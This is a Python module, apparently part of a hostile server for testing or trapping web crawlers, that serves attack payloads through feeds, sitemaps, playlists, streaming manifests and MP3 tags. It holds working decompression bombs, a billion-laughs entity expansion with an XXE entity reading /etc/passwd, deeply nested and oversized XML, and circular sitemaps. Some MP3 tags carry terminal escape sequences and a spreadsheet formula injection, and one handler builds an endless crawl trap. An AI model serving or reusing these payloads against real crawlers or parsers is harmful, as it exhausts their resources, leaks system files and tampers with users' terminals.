"""Attacks by feeds, sitemaps, playlists and media files."""

from __future__ import annotations

import gzip
import struct
import zlib
from functools import cache

from attack import attack, page_of
from sin import Visit
from sins_media import song

HTML = "text/html; charset=utf-8"
XML = "application/xml"
RSS = "application/rss+xml"
MP3 = "audio/mpeg"


async def lead(visit: Visit, body: bytes, content_type: str, name: str) -> None:
    """A front page that links to one list, and the list."""
    if visit.path == f"/{name}":
        await visit.honest(body, content_type)
    else:
        await visit.honest(page_of(visit.path, f'<a href="/{name}">list</a>'), HTML)


async def packed(visit: Visit, body: bytes, content_type: str, name: str) -> None:
    """The same, with the list sent packed."""
    if visit.path == f"/{name}":
        await visit.send(200, body, content_type, Content_Encoding="gzip")
    else:
        await visit.honest(page_of(visit.path, f'<a href="/{name}">list</a>'), HTML)


@attack("asx-spaces", "A playlist of 3 KB packed, with a tag of 2.9 million spaces.")
async def asx_spaces(visit: Visit) -> None:
    await packed(visit, _asx_spaces(), "video/x-ms-asf", "list.asx")


@cache
def _asx_spaces() -> bytes:
    return gzip.compress(b"<asx><" + b" " * 2_900_000)


@attack("asx-quotes", "A playlist whose attributes never end.")
async def asx_quotes(visit: Visit) -> None:
    await lead(visit, b"<asx>" + b'<ref href="' * 20_000, "video/x-ms-asf", "list.asx")


@attack("asx-entities", "A playlist whose addresses are references of 5,000 digits.")
async def asx_entities(visit: Visit) -> None:
    await lead(visit, b'<asx><entry><ref href="/&#%s;.mp3"/></entry></asx>' % (b"9" * 5000), "video/x-ms-asf", "l.asx")


@attack("feed-entities", "A feed whose descriptions are references of 5,000 digits.")
async def feed_entities(visit: Visit) -> None:
    text = f"&amp;#{'9' * 5000};".encode()
    item = b'<item><title>%s</title><description>%s</description><enclosure url="/song.mp3"/></item>' % (text, text)
    await lead(visit, b"<rss><channel>%s</channel></rss>" % item, RSS, "feed.xml")


@attack("feed-bomb", "A feed of entities that stand for a billion words, and of files of the crawler.")
async def feed_bomb(visit: Visit) -> None:
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    head = b'<!DOCTYPE rss [<!ENTITY e0 "ha"><!ENTITY f SYSTEM "file:///etc/passwd">' + entities + b"]>"
    await lead(visit, head + b"<rss><channel><title>&e9;&f;</title></channel></rss>", RSS, "feed.xml")


@attack("feed-items", "A feed of 100,000 empty items.")
async def feed_items(visit: Visit) -> None:
    await lead(visit, b"<rss><channel>" + b"<item/><enclosure/>" * 60_000, RSS, "feed.xml")


@attack("feed-depth", "A feed that is nested as deep as it is long.")
async def feed_depth(visit: Visit) -> None:
    await lead(visit, b"<rss><channel>" + b"<item>" * 100_000, RSS, "feed.xml")


@attack("sitemap-circle", "Sitemaps that name each other, and thousands more.")
async def sitemap_circle(visit: Visit) -> None:
    names = b"".join(b"<sitemap><loc>%s/%d.xml</loc></sitemap>" % (visit.base.encode(), n) for n in range(3000))
    if visit.path.endswith(".xml"):
        await visit.send(200, b"<sitemapindex>" + names + b"</sitemapindex>", XML)
    else:
        await visit.honest(page_of(visit.path, '<a href="/sitemap.xml">map</a>'), HTML)


@attack("m3u-lines", "A playlist of a million lines in 3 KB.")
async def m3u_lines(visit: Visit) -> None:
    await packed(visit, _m3u_lines(), "audio/x-mpegurl", "list.m3u")


@cache
def _m3u_lines() -> bytes:
    return gzip.compress(b"#EXTM3U\n" + b"a\n" * 1_000_000)


@attack("m3u-long", "A playlist of entries of 2 KB.")
async def m3u_long(visit: Visit) -> None:
    lines = b"".join(b"/%d%s.mp3\n" % (number, b"m" * 1900) for number in range(1000))
    await lead(visit, b"#EXTM3U\n" + lines, "audio/x-mpegurl", "list.m3u")


@attack("hls-keys", "A manifest whose one line has 100,000 attributes.")
async def hls_keys(visit: Visit) -> None:
    line = b"#EXT-X-STREAM-INF:" + b'A="b",' * 100_000
    await lead(visit, b"#EXTM3U\n" + line + b"\nhigh.m3u8\n", "application/vnd.apple.mpegurl", "m.m3u8")


@attack("mpd-periods", "A manifest of thousands of periods and bases.")
async def mpd_periods(visit: Visit) -> None:
    body = b"<MPD>" + b"<Period><BaseURL>a/</BaseURL>" * 20_000
    await lead(visit, body, "application/dash+xml", "m.mpd")


def frame(name: bytes, body: bytes, flags: int = 0) -> bytes:
    """A frame of ID3v2.3."""
    return name + struct.pack(">IH", len(body), flags) + body


def tagged(*frames: bytes) -> bytes:
    """A song with these frames in front."""
    body = b"".join(frames)
    size = bytes(len(body) >> shift & 127 for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + size + body + song()[2000:60_000]


async def files(visit: Visit, body: bytes, number: int = 30) -> None:
    """A front page with links to files that are alike but for their place."""
    if visit.path.endswith(".mp3"):
        await visit.honest(body, MP3)
    else:
        await visit.honest(page_of("files", "".join(f'<a href="/{n}.mp3">{n}</a>' for n in range(number))), HTML)


@attack("packed-tags", "Thirty files with a tag of megabytes in a few KB.")
async def packed_tags(visit: Visit) -> None:
    await files(visit, _packed_tags())


@cache
def _packed_tags() -> bytes:
    text = b"\0name\0" + b"text " * 60_000
    return tagged(*[frame(b"TXXX", struct.pack(">I", len(text)) + zlib.compress(text, 9), 0x0080)] * 12)


@attack("many-tags", "Files with 900 fields of text in a wrong encoding.")
async def many_tags(visit: Visit) -> None:
    text = "Радио Дальние Огни играет ночью музыку и песни".encode("cp1251")
    await files(visit, tagged(*(frame(b"TXXX", b"\0%d\0" % n + text * 5) for n in range(900))), 3)


@attack("tag-escapes", "Files whose tags clear the terminal of whoever reads them.")
async def tag_escapes(visit: Visit) -> None:
    evil = b"\0\x1b[2J\x1b]0;owned\x07\x9b31m\r\n=HYPERLINK(1)"
    await files(visit, tagged(frame(b"TIT2", evil), frame(b"TPE1", evil)), 2)


@attack("endless-files", "A page for each file, and a file on each page, for ever; each file earns more.")
async def endless_files(visit: Visit) -> None:
    number = int("".join(filter(str.isdigit, visit.path)) or 0)
    if visit.path.endswith(".mp3"):
        await visit.honest(tagged(frame(b"TIT2", b"\0%d" % number)), MP3)
    else:
        links = "".join(f'<a href="/{n}.mp3">{n}</a><a href="/p{n}">{n}</a>' for n in range(number, number + 9))
        await visit.honest(page_of(visit.path, links), HTML)
